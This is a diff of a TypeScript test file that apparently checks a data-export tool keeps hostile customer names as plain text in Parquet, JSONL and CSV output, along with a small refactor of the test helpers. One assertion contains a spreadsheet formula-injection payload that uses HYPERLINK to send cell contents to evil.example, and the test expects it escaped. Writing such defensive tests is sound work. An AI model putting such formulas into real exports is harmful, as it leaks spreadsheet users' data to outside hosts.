@@ -3,6 +3,7 @@ import { expect, onTestFinished, test } from "vitest";
 import { manifest } from "../../connectors/fintoro/manifest.ts";
 import { openMirror, type Mirror } from "../../src/state/mirror.ts";
 import { duckRows, exportOf } from "../support/export/export.ts";
+import { jsonLines } from "../support/program/cli.ts";
 import { tempFolder } from "../support/temporary-folder.ts";
 import { publish, reading, rowsOf } from "../support/export/published.ts";
 import { putAs, rows } from "../support/mirror/store.ts";
@@ -25,12 +26,8 @@ async function hostileMirror(): Promise<Mirror> {
   onTestFinished(() => mirror.close());
   for (const [i, name] of names.entries())
     putAs(mirror, "clients", i + 1, JSON.stringify({ id: i + 1, name, [key]: name }));
-  putAs(
-    mirror,
-    "invoices",
-    1,
-    JSON.stringify({ id: 1, number: names[0], clientId: 1, items: [{ id: 1, name: key }] }),
-  );
+  const invoice = { id: 1, number: names[0], clientId: 1, items: [{ id: 1, name: key }] };
+  putAs(mirror, "invoices", 1, JSON.stringify(invoice));
   return mirror;
 }
 
@@ -55,11 +52,7 @@ test("whatever a customer is called, it is text: in the mirror, the report and e
   const inParquet = await duckRows(`SELECT name FROM '${out}/acme/clients.parquet' ORDER BY id`);
   expect(inParquet).toEqual(names.map((name) => [name]));
   const jsonl = (await exportOf(mirror, { format: "jsonl", tables: ["clients"] })).text("clients.jsonl");
-  const parsed = jsonl
-    .trimEnd()
-    .split("\n")
-    .map((line) => (JSON.parse(line) as { name: string }).name);
-  expect(parsed).toEqual(names);
+  expect(jsonLines(jsonl).map(({ name }) => name)).toEqual(names);
   const csv = (await exportOf(mirror, { tables: ["clients"] })).text("clients.csv");
   expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`);
 });
